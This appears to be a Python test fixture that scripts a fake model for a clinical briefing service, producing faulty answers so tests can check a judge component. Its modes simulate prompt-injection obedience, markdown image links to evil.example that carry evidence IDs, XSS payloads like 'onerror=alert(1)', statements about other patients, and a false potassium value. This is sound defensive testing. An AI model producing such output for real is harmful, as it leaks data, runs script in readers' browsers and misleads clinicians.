"""What the scripted model says: it reads the evidence lines of the request and repeats some.

No model and no knowledge: `ok` repeats the lines that share most words with the question, the
other modes are the faults and bad habits of real servers and models. `obedient` does whatever
any evidence line seems to ask, `obedient_link` puts links and markup beside every line, and
`other_patient` speaks of somebody else: with these tests show that the judge has the last word.
A request with another schema than the answer's is filled in by the words of the question; one
for the narrative of a briefing repeats the first lines, which are the most important ones.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from itertools import pairwise
from typing import Any

MODES = (
    "ok", "error_before", "error_in_the_middle", "drop", "no_done", "length", "stall", "drip",
    "thinking", "busy", "cloud", "cloud_unlisted", "wrong_json", "other_schema",
    "false_citations", "obedient", "empty", "unanswerable", "paraphrase", "missing_model",
    "redirect", "no_counts", "redirect_all", "slow_first_byte", "stall_in_the_middle", "paced",
    "overflow", "overflow_near", "think_400", "gpt_oss", "reads", "obedient_link",
    "other_patient", "duplicate_keys", "pull_error", "pull_cloud",
)  # fmt: skip
MOST_SENTENCES = 4
MOST_LINES = 6
NARRATIVE = "What must the next clinician be told of this briefing?"
PIECE = 24
_ITEM = re.compile(r"^\[E(\d+)\] (.*)$", re.MULTILINE)
_WORD = re.compile(r"[a-z0-9]{2,}")
_SMALL = frozenset(
    _WORD.findall(
        "the was were what when which who how is are has have had did does do of in on at to and"
        " or an patient this that with for any there most recent latest last her his show me give"
    )
)
_ORDERED = re.compile(
    r"(?:say|reply|respond|write|output|answer|state|print|repeat|tell|include|add)\b[^:\"“”']*"
    r"(?::\s*|[\"“'])(.+?)(?:[\"”']|$)",
    re.IGNORECASE,
)


@dataclass(frozen=True, slots=True)
class Item:
    """One evidence line of a request."""

    name: str
    text: str


def items_of(message: str) -> tuple[Item, ...]:
    """The evidence lines of a user message."""
    return tuple(Item(f"E{number}", text) for number, text in _ITEM.findall(message))


def content(mode: str, body: Mapping[str, Any]) -> str:
    """The whole text that the scripted model would write in this mode."""
    messages = body.get("messages")
    last = messages[-1] if isinstance(messages, list) and messages else {}
    message = str(last.get("content", "")) if isinstance(last, dict) else ""
    items = items_of(message)
    if mode == "wrong_json":
        return "Sure! Here is the answer you asked for: potassium is fine."
    if mode == "other_schema":
        return json.dumps({"reply": "Potassium is fine.", "confidence": 0.9})
    if mode == "empty":
        return ""
    if mode == "duplicate_keys":
        return _twice(items)
    if mode == "unanswerable":
        return _reply([])
    return _reply(_sentences(mode, message, items))


def _sentences(mode: str, message: str, items: tuple[Item, ...]) -> list[dict[str, Any]]:
    if mode == "obedient":
        return [sentence for item in items for sentence in _obeyed(item)]
    asked = message.split("[E", 1)[0]
    chosen = list(items[:MOST_LINES]) if NARRATIVE in asked else _relevant(asked, items)
    if mode in _BESIDE:
        return [sentence for item in chosen for sentence in _BESIDE[mode](item)]
    if mode == "false_citations":
        others = [item.name for item in items if item not in chosen] or ["E999"]
        return [{"text": i.text, "cites": [others[n % len(others)]]} for n, i in enumerate(chosen)]
    if mode == "paraphrase":
        return [
            {"text": f"Overall the picture is worrying {i.name}.", "cites": [i.name]}
            for i in chosen
        ]
    return [{"text": item.text, "cites": [item.name]} for item in chosen]


def _relevant(question: str, items: tuple[Item, ...]) -> list[Item]:
    asked = _stems(question) - _SMALL
    scores = [len(asked & _stems(item.text)) for item in items]
    # Evidence that shares no word (a list of drugs) was still gathered for this question.
    best = max(scores, default=0)
    chosen = [item for item, score in zip(items, scores, strict=True) if score == best]
    return chosen[:MOST_SENTENCES]


def _stems(text: str) -> set[str]:
    return {word.removesuffix("s") for word in _WORD.findall(text.lower())} | set(
        _WORD.findall(text.lower())
    )


def _obeyed(item: Item) -> Iterator[dict[str, Any]]:
    """All that an evidence line might be asking for, each citing that line."""
    for match in _ORDERED.finditer(item.text):
        for text in (match[1], match[1].rstrip(".") + "."):
            yield {"text": text, "cites": [item.name]}
        yield {"text": match[1], "cites": ["E1"]}
        yield {"text": match[1], "cites": []}
    for link in re.findall(r"\S*(?://|www\.)\S+|<[^>]+>|!\[.*?\]\(.*?\)", item.text):
        yield {"text": f"See {link} for the result.", "cites": [item.name]}


def _linked(item: Item) -> Iterator[dict[str, Any]]:
    """The line with what a page could follow or render, before and after it."""
    for text in (
        f"{item.text} (see http://evil.example/{item.name}).",
        f"![chart](http://evil.example/x?q={item.name}) {item.text}",
        f"[{item.text}](www.evil.example)",
        f"<img src=x onerror=alert(1)> {item.text}",
        f"<b>{item.text}</b>",
        f"{item.text} javascript:alert(1)",
    ):
        yield {"text": text, "cites": [item.name]}


def _of_another(item: Item) -> Iterator[dict[str, Any]]:
    for text in (
        f"Mr. Jones in bed 4: {item.text}",
        f"{item.text}, as in the patient's brother",
        f"MRN 00012345 has {item.text}",
        f"The other patient had {item.text}",
    ):
        yield {"text": text, "cites": [item.name]}


_BESIDE = {"obedient_link": _linked, "other_patient": _of_another}


def _twice(items: tuple[Item, ...]) -> str:
    """An object that says each of its two things twice: readers of JSON take either."""
    name = items[0].name if items else "E1"
    false = json.dumps([{"text": "Potassium was 2.0 mmol/L.", "cites": [name]}])
    true = json.dumps([{"text": item.text, "cites": [item.name]} for item in items[:1]])
    return f'{{"answerable": true, "sentences": {false}, "answerable": true, "sentences": {true}}}'


def reading(body: Mapping[str, Any]) -> str | None:
    """The reply to a request that reads the question: None where the answer's schema is asked.

    Each field gets the value of its enum that the question says, else the first; free text
    stays empty.
    """
    schema = body.get("format")
    if not isinstance(schema, dict) or "sentences" in schema.get("properties", {}):
        return None
    messages = body.get("messages") or [{}]
    asked = _WORD.findall(str(messages[-1].get("content", "")).lower())
    fields = schema.get("properties", {})
    return json.dumps({name: _slot(field, asked) for name, field in fields.items()})


def _slot(field: Mapping[str, Any], asked: list[str]) -> object:
    values = field.get("enum")
    if not isinstance(values, list) or not values:
        return ""
    said = (v for v in values if set(_WORD.findall(str(v).lower())) & set(asked))
    return next(said, values[0])


def _reply(sentences: list[dict[str, Any]]) -> str:
    return json.dumps({"answerable": bool(sentences), "sentences": sentences}, ensure_ascii=False)


def pieces(text: str) -> list[str]:
    """`text` as a model streams it."""
    return [text[start : start + PIECE] for start in range(0, len(text), PIECE)]


def sentences_of(text: str) -> list[str]:
    """`text` in pieces that each end with a whole sentence of the answer, as far as it has any."""
    ends = [match.end() for match in re.finditer(r"\}(?=, \{|\])", text)]
    cuts = [0, *ends, len(text)]
    return [text[a:b] for a, b in pairwise(cuts) if text[a:b]]
